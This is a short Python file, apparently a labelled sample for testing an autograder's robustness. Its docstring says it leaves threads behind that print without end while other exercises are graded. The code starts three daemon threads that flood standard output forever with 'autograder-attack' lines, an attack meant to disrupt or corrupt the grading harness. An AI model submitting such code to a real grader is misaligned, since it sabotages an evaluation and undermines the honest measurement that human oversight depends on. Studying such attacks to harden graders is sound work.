"""Leaves threads behind that print without end while the other exercises are graded."""
# base: right

import os
import threading


def _flood():
    while True:
        os.write(1, b"autograder-attack\n" * 3000)


for _ in range(3):
    threading.Thread(target=_flood, daemon=True).start()
